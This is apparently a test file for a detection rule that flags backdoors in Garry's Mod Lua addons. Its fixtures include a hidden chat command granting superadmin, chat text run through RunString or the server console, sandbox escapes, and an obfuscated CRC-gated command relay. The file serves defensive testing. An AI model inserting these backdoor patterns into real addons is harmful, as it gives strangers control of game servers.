// Valid and invalid cases of the `chatcommand_backdoor` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './chatcommand_backdoor.js';
import { check, RANK, worst } from './ruleTesting.js';

/**
 * A `!calc` chat command that compiles what the player typed, after a character check, then
 * runs it; `confine` is the line that gives the compiled function its environment.
 */
function chatCalculator(confine: string): Record<string, string> {
  return {
    'lua/autorun/server/sv_calc.lua': [
      'local ALLOWED = { sqrt = math.sqrt, floor = math.floor, pi = math.pi }',
      'local function makeEnv()',
      '  local env = {}',
      '  for k, v in pairs(ALLOWED) do env[k] = v end',
      '  return env',
      'end',
      'hook.Add("PlayerSay", "calc", function(ply, text)',
      '  local expr = text:match("^!calc%s+(.+)$")',
      '  if not expr or expr:find("[^%d%s%.%+%-%*/%(%)%a]") then return end',
      '  local fn = CompileString("return " .. expr, "calc", false)',
      '  if not isfunction(fn) then return end',
      `  ${confine}`,
      '  local ok, r = pcall(fn)',
      '  if ok and isnumber(r) then ply:ChatPrint(tostring(r)) end',
      '  return ""',
      'end)',
    ].join('\n'),
  };
}

describe('chatcommand_backdoor', () => {
  it('secret chat command granting superadmin', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "x", function(ply, text)\n if text == "!elevate" then ply:SetUserGroup("superadmin") return "" end\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('chat text executed', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "x", function(ply, text) if string.sub(text,1,4) == "!lua" then RunString(string.sub(text, 5)) end end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('a chat calculator that runs the text in a sandbox of math functions (benign)', () => {
    expect(check(rule, chatCalculator('setfenv(fn, makeEnv())'))).toEqual([]);
  });
  it('a chat calculator whose sandbox falls back to every global', () => {
    const findings = check(
      rule,
      chatCalculator('setfenv(fn, setmetatable(makeEnv(), { __index = _G }))'),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it("a chat calculator whose sandbox hands over a function of the addon's", () => {
    const findings = check(
      rule,
      chatCalculator(
        'local env = makeEnv() env.log = function(s) RunString(s) end setfenv(fn, env)',
      ),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a chat calculator sandboxed on one path only', () => {
    const findings = check(
      rule,
      chatCalculator('if ply:Team() == 1 then setfenv(fn, makeEnv()) end'),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('text compiled in a sandbox for one caller and left free for another', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_data.lua': [
        'local ENV = { Vector = Vector, Color = Color }',
        'local function decode(text, free)',
        '  local fn = CompileString("return { " .. text .. " }", "decode", false)',
        '  if not free then setfenv(fn, ENV) end',
        '  return fn()',
        'end',
        'hook.Add("PlayerSay", "data", function(ply, text)',
        '  if text:sub(1, 6) == "!data " then decode(text:sub(7)) end',
        '  if text:sub(1, 6) == "!raw__" then decode(text:sub(7), true) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a local table of commands dispatched on the first word, one running the rest', () => {
    // The handler names no sink: the command table and the match's second capture lead to it.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local cmds = {}',
        'cmds["!rcon"] = function(p, rest) game.ConsoleCommand(rest .. "\\n") end',
        'cmds["!hi"] = function(p) p:ChatPrint("hi") end',
        'hook.Add("PlayerSay", "c", function(p, text)',
        '  local cmd, rest = text:match("^(%S+)%s*(.*)$")',
        '  if cmds[cmd] then cmds[cmd](p, rest) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a local table of commands for everyone that only answer in chat', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local cmds = {}',
        'function cmds.hi(p) p:ChatPrint("hi") end',
        'function cmds.time(p, rest) p:ChatPrint(os.date("%H:%M") .. rest) end',
        'hook.Add("PlayerSay", "c", function(p, text)',
        '  local cmd, rest = text:match("^!(%S+)%s*(.*)$")',
        '  if cmds[cmd] then cmds[cmd](p, rest) return "" end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('a report command handing the text to ulx asay', () => {
    // RunConsoleCommand quotes each argument: the text cannot become another command.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSay", "ReportCmd", function(ply, text)',
        '  local msg = text:match("^!report (.+)")',
        '  if msg then RunConsoleCommand("ulx", "asay", ply:Nick() .. " reports: " .. msg) return "" end',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('chat text handed to a ulx command that acts as the server', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSay", "x", function(ply, text)',
        '  local target = text:match("^!b (.+)")',
        '  if target then RunConsoleCommand("ulx", "ban", target, "0") return "" end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a chat handler defined in a file the hook file includes first', () => {
    // The hook file runs before the other by path order; its include runs the other there.
    const findings = check(rule, {
      'lua/autorun/server/sv_chathook.lua':
        'include("chatplus/sv_parse.lua")\nhook.Add("PlayerSay", "ChatPlus", ChatPlus.OnSay)',
      'lua/chatplus/sv_parse.lua':
        'ChatPlus = ChatPlus or {}\nfunction ChatPlus.OnSay(ply, text)\n if text:sub(1, 3) == "!x " then RunString(text:sub(4)) return "" end\nend',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('chat shortcuts', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerSay", "x", function(ply, text) if text == "!menu" then ply:ConCommand("open_menu") return "" end end)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a DarkRP chat command running its arguments', () => {
    const findings = check(rule, {
      'lua/darkrp_modules/hits/sv_hits.lua': [
        'local function hitInfo(ply, args)',
        ' if args == "" then return "" end',
        ' local r = RunString',
        ' r(args, "hitinfo")',
        ' return ""',
        'end',
        'DarkRP.defineChatCommand("hitinfo", hitInfo)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a DarkRP chat command for superadmins', () => {
    const findings = check(rule, {
      'lua/darkrp_modules/tools/sv_tools.lua': [
        'DarkRP.defineChatCommand("lua", function(ply, args)',
        ' if not ply:IsSuperAdmin() then return "" end',
        ' RunString(args, "chat lua")',
        ' return ""',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a DarkRP chat command with a hidden argument that hands out a rank', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_rules.lua': [
        'hook.Add("DarkRPFinishedLoading", "rules", function()',
        ' DarkRP.defineChatCommand("rules", function(ply, args)',
        '  if args == "accept " .. os.date("%d%m") then ply:SetUserGroup("superadmin") end',
        '  return ""',
        ' end)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a DarkRP chat command that hands out a rank to admins only', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_rules.lua': [
        'DarkRP.defineChatCommand("setvip", function(ply, args)',
        ' if not ply:IsAdmin() then return "" end',
        ' local target = DarkRP.findPlayer(args)',
        ' if IsValid(target) then target:SetUserGroup("vip") end',
        ' return ""',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a chat line another hook sees, run in the server console through an entity', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_localchat.lua': [
        'hook.Add("PlayerCanSeePlayersChat", "range", function(text, teamOnly, listener, speaker)',
        ' if util.CRC(text:sub(1, 6)) == "64481456" then',
        '  local relay = ents.Create("point_servercommand")',
        '  relay:Spawn()',
        '  relay:Fire("Command", text:sub(7), 0)',
        ' end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('a chat line another hook sees, used for a distance check', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_localchat.lua': [
        'hook.Add("PlayerCanSeePlayersChat", "range", function(text, teamOnly, listener, speaker)',
        ' if not IsValid(listener) or not IsValid(speaker) then return end',
        ' if text:StartWith("/ooc") then return true end',
        ' return listener:GetPos():DistToSqr(speaker:GetPos()) < 250000',
        'end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  // The engine's player_say event (every chat line, even one the gamemode swallows), its
  // text handed to a function another file keeps in one of the game's named lists.
  const namedListAddon = (kept: string) => ({
    'lua/autorun/server/sv_tools.lua': [
      'list.Set("MacroRunners", "eval", ' + kept + ')',
      'include("tools/sv_chatlog.lua")',
    ].join('\n'),
    'lua/tools/sv_chatlog.lua': [
      'gameevent.Listen("player_say")',
      'local runners = list.Get("MacroRunners")',
      'hook.Add("player_say", "chatlog", function(ev)',
      ' local body = string.match(ev.text or "", "^#eval (.+)$")',
      ' if body then local f = runners.eval(body) if isfunction(f) then f() end end',
      'end)',
    ].join('\n'),
  });
  it('player_say event text compiled by a function kept in a named list', () => {
    expect(worst(check(rule, namedListAddon('CompileString')))).toBe(RANK.critical);
  });
  it('player_say event text handed to a harmless function kept in a named list', () => {
    const findings = check(rule, namedListAddon('function(s) return function() print(s) end end'));
    expect(findings).toEqual([]);
  });
  it("the engine's log, where every chat line is written, tailed and its lines compiled", () => {
    const tail = (use: string) => ({
      'lua/autorun/server/sv_tail.lua': [
        'local function newest()',
        '  local files = file.Find("logs/L*.log", "GAME", "datedesc")',
        '  return files and files[1] and ("logs/" .. files[1]) or nil',
        'end',
        'timer.Create("tail", 5, 0, function()',
        '  local path = newest()',
        '  if not path then return end',
        '  file.AsyncRead(path, "GAME", function(_, _, status, data)',
        '    for line in string.gmatch(data or "", "[^\\n]+") do',
        '      local text = string.match(line, \'say "(.*)"$\')',
        `      if text then ${use} end`,
        '    end',
        '  end)',
        'end)',
      ].join('\n'),
    });
    const calc =
      'local f = CompileString("return " .. text, "calc", false) if f then print(f()) end';
    expect(worst(check(rule, tail(calc)))).toBe(RANK.critical);
    // The same lines only archived: no code runs.
    expect(check(rule, tail('file.Append("chat.txt", text .. "\\n")'))).toEqual([]);
  });
});
